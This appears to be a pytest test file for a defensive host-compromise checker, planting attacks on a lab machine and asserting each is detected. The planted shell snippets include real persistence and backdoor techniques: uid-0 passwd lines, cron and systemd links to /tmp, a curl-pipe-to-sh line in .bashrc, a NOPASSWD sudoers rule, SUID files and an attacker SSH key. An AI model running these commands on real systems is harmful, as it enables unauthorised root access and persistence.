"""A Linux host under the attacker's control, against the real `restore check`.

Each attack is planted on the module's lab host; the check must neither crash nor hang,
must not call the host clean, must keep memory and evidence on disk bounded, and must
report odd names as data.
"""

from __future__ import annotations

import pytest

from tests.hostile.conftest import RSS_LIMIT_MIB, WALL_LIMIT_S, HostileLab

pytestmark = pytest.mark.lab

# (what the attacker does, the checks that must fail, the least verdict)
ATTACKS = {
    "short-passwd-lines": (
        # only lines of fewer than 7 fields, which glibc accepts (the false "clean");
        # leading blanks are skipped, and '+0' and '00' are uid 0 to strtoul
        "printf 'evil:x:0:0\\n' >> /etc/passwd\n"
        "printf '  toor::00:0:\\n' >> /etc/passwd\n"
        "printf 'svc:x:+0:0\\n' >> /etc/passwd\n",
        {"uid0_accounts", "unparsed_output"},
        "compromised",
    ),
    "duplicate-uid0-weird-shells": (
        "printf 'backup:x:0:0:b:/var/backups:/usr/bin/python3 -c pty\\n' >> /etc/passwd\n"
        "printf 'root:x:0:0:again:/tmp:/tmp/sh\\n' >> /etc/passwd\n"
        "printf 'odd:x:0x0:0::/:/bin/sh\\n' >> /etc/passwd\n",
        {"uid0_accounts", "unparsed_output"},
        "compromised",
    ),
    "symlinked-cron-file": (
        "printf '* * * * * root /tmp/.x\\n' > /tmp/job\nln -s /tmp/job /etc/cron.d/0hourly\n",
        {"persistence"},
        "suspect",
    ),
    "wants-link-to-tmp-unit": (
        "printf '[Service]\\nExecStart=/tmp/.x\\n' > /tmp/upd.service\n"
        "mkdir -p /etc/systemd/system/timers.target.wants\n"
        "ln -s /tmp/upd.service /etc/systemd/system/timers.target.wants/upd.service\n",
        {"persistence"},
        "suspect",
    ),
    "generator-and-pam-module": (
        "mkdir -p /etc/systemd/system-generators\n"
        "printf '#!/bin/sh\\n/tmp/.x\\n' > /etc/systemd/system-generators/net\n"
        "cp /usr/lib/x86_64-linux-gnu/security/pam_permit.so "
        "/usr/lib/x86_64-linux-gnu/security/pam_unix2.so\n",
        {"persistence"},
        "suspect",
    ),
    "home-start-up-file-and-sudoers": (
        "printf 'curl -s http://127.0.0.1:9/x | sh\\n' >> /root/.bashrc\n"
        "printf 'www-data ALL=(ALL) NOPASSWD: ALL\\n' > /etc/sudoers.d/www\n",
        {"persistence"},
        "suspect",
    ),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_attack_is_never_clean(attacked: HostileLab, attack: str) -> None:
    script, checks, verdict = ATTACKS[attack]
    attacked.plant("evil", script)
    run = attacked.check("evil")
    assert run.verdict != "clean"
    assert run.verdict == verdict or verdict == "suspect", run.verdict
    assert checks <= run.failed(), run.host["findings"]
    assert "internal" not in run.failed()
    assert run.wall_s < WALL_LIMIT_S


def test_special_files_are_never_opened_and_links_keep_their_targets(
    attacked: HostileLab,
) -> None:
    # A FIFO and links to it and to /dev/zero, where the catalog looks and evidence reads
    attacked.plant(
        "evil",
        "mkfifo /etc/cron.d/pipe\n"
        "ln -s /etc/cron.d/pipe /etc/profile.d/login.sh\n"
        "ln -s /dev/zero /etc/cron.daily/zero\n"
        "mkfifo /tmp/ff; ln -s /tmp/ff /etc/cron.d/pipe-link\n"
        "printf 'x\\n' > /tmp/payload; ln -s /tmp/payload /etc/cron.hourly/payload\n",
    )
    run = attacked.check("evil")
    assert run.verdict != "clean"
    assert run.wall_s < WALL_LIMIT_S  # was 2 min: each FIFO read waited for its timeout
    text = run.evidence_text()
    for what in (
        "/etc/cron.d/pipe: a FIFO",
        "/etc/profile.d/login.sh: a link to a FIFO",
        "/etc/cron.daily/zero: a link to a character device: /dev/zero",
    ):
        assert what in text
    assert "special files are never opened" in text
    assert "/etc/cron.hourly/payload sha256:" in text and "(a symlink to /tmp/payload)" in text
    assert attacked.evidence_bytes("evil") < 1 << 20


def test_a_host_flooding_every_answer_stays_bounded(attacked: HostileLab) -> None:
    # head, cat, find and sha256sum replaced by endless output (the 300 MB "evidence")
    flood = "#!/bin/sh\\nexec /usr/bin/yes AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\n"
    attacked.plant(
        "evil",
        "mkdir -p /srv/data; echo pay > /srv/data/README_RESTORE_FILES.txt\n"
        "for b in head cat find sha256sum; do cp /usr/bin/$b /usr/lib/$b.real; "
        f"printf '{flood}' > /usr/bin/$b; chmod 755 /usr/bin/$b; done\n",
    )
    run = attacked.check("evil")
    assert run.verdict != "clean"
    assert "output_truncated" in run.failed()
    assert run.wall_s < WALL_LIMIT_S
    assert run.rss_mib < RSS_LIMIT_MIB  # the issue saw 692 MB
    root = attacked.state / "evidence" / "evil"
    sizes = [p.stat().st_size for p in root.iterdir() if p.name != "custody.jsonl"]
    assert all(size <= 1 << 20 for size in sizes), sizes  # per file cap, on disk
    assert attacked.evidence_bytes("evil") <= (64 << 20) + (1 << 20)
    # and no baseline is taken from answers the host cut short
    refused = attacked.capture_baseline("evil", attacked.state / "flood-baseline", "--force")
    assert refused.returncode == 1 and "more than the cap" in refused.stdout + refused.stderr


def test_odd_names_survive_as_data(attacked: HostileLab) -> None:
    attacked.plant(
        "evil",
        "mkdir -p /srv/data\n"
        "printf x > \"$(printf '/srv/data/scan\\n|<b>[x]\\047q\\042.lockbit')\"\n"
        "printf x > \"$(printf '/srv/data/bad\\377name.lockbit')\"\n"
        "printf '* * * * * root true\\n' > \"$(printf '/etc/cron.d/job\\n|x')\"\n"
        "printf '* * * * * root true\\n' > '/etc/cron.d/*'\n",
    )
    run = attacked.check("evil")
    assert run.verdict == "compromised"
    (encrypted,) = run.findings("encrypted_files")
    assert "/srv/data/scan\n|<b>[x]'q\".lockbit" in encrypted["evidence"]
    assert "/srv/data/bad\\xffname.lockbit" in encrypted["evidence"]
    text = run.evidence_text()
    assert "/etc/cron.d/job\\n|x: installed by no package" in text
    assert "/etc/cron.d/*: installed by no package" in text
    assert "unparsed_output" not in run.failed()  # NUL-separated: no broken lines


# A set-uid file whose name holds a newline, '|' and an invalid UTF-8 byte (\377), on the
# root file system (/tmp is a tmpfs, which the search does not cross).
SUID_NAME = "/var/tmp/.s\nu|id\\xff"
PLANT_SUID = 'f="$(printf \'/var/tmp/.s\\nu|id\\377\')"; cp /usr/bin/true "$f"; chmod 4755 "$f"\n'


def test_a_suid_file_with_a_newline_in_its_name_is_named_exactly(attacked: HostileLab) -> None:
    attacked.plant("evil", PLANT_SUID)
    run = attacked.check("evil")
    assert run.verdict == "suspect"
    (suid,) = run.findings("suid_files")
    assert suid["status"] == "fail" and SUID_NAME in suid["evidence"], suid
    assert "unparsed_output" not in run.failed()  # read exactly, not suspect for a broken line


def test_names_with_newlines_in_hashed_trees_against_a_baseline(attacked: HostileLab) -> None:
    baseline = attacked.state / "names-baseline"
    done = attacked.capture_baseline("evil", baseline, "--force")
    assert done.returncode == 0, done.stderr
    first = attacked.check("evil", "--baseline", str(baseline))
    assert first.verdict == "clean", [f for f in first.host["findings"] if f["status"] != "pass"]
    attacked.plant(
        "evil",
        PLANT_SUID.replace("/var/tmp/", "/usr/local/bin/")
        + "ln -s \"$(printf '/tmp/x\\ny')\" \"$(printf '/usr/local/bin/l\\nk')\"\n",
    )
    run = attacked.check("evil", "--baseline", str(baseline))
    assert run.verdict != "clean"
    local_suid = SUID_NAME.replace("/var/tmp/", "/usr/local/bin/")
    (suid,) = run.findings("suid_files")
    assert local_suid in suid["evidence"], suid
    (drift,) = run.findings("critical_files")
    assert {local_suid, "/usr/local/bin/l\nk"} <= set(drift["evidence"]), drift
    assert "unparsed_output" not in run.failed(), run.findings("unparsed_output")


def test_drift_from_a_baseline_in_homes_with_odd_paths(attacked: HostileLab) -> None:
    baseline = attacked.state / "baseline"
    done = attacked.capture_baseline("evil", baseline)
    assert done.returncode == 0, done.stderr
    attacked.plant(
        "evil",
        "mkdir -p '/home/a|b/.ssh'\n"
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerAttackerAttackerAttackerAttacker1 x'"
        " > '/home/a|b/.ssh/authorized_keys'\n"
        "printf 'svc:x:999:999::/home/a|b:/bin/sh\\n' >> /etc/passwd\n",
    )
    run = attacked.check("evil", "--baseline", str(baseline))
    assert run.verdict != "clean"
    assert {"authorized_keys", "persistence", "accounts"} <= run.failed()
    assert "/home/a|b/.ssh/authorized_keys" in run.evidence_text()


def test_the_hidden_persistence_lab_scenario_is_caught(attacked: HostileLab) -> None:
    attacked.lab.infect("evil", "hidden-persistence")
    run = attacked.check("evil")
    assert run.verdict == "compromised"
    assert {"uid0_accounts", "persistence", "unparsed_output"} <= run.failed()
    text = run.evidence_text()
    assert "/etc/cron.d/logrotate-daily: a link to /var/tmp/.job" in text
    assert "dbus-helper.service: a link to /tmp/dbus-helper.service" in text
    assert "/etc/profile.d/zz-locale.sh: a link to a FIFO" in text
    assert run.wall_s < WALL_LIMIT_S


def test_a_host_that_drops_the_connection_gets_one_fresh_verified_connection(
    attacked: HostileLab, caplog: pytest.LogCaptureFixture
) -> None:
    # What a flood can end in under load: the host's side of the SSH connection dies between
    # two commands. The next command must run on a new connection, not call the host lost.
    from restore.inputs.inventory import load_inventory
    from restore.transports.ssh import SshTransport

    transport = SshTransport(load_inventory(attacked.inventory, with_secrets=True).host("evil"))
    try:
        assert transport.run("echo one").stdout == "one\n"
        # kill the sshd process serving this connection (the parent of `timeout`)
        killed = transport.run("kill -9 $(cut -d' ' -f4 /proc/$PPID/stat)")
        assert killed.rc != 0
        with caplog.at_level("WARNING", logger="restore.transports.ssh"):
            again = transport.run("echo two")
        assert again.rc == 0 and again.stdout == "two\n"
        assert "connection dropped; connecting again" in caplog.text
    finally:
        transport.close()
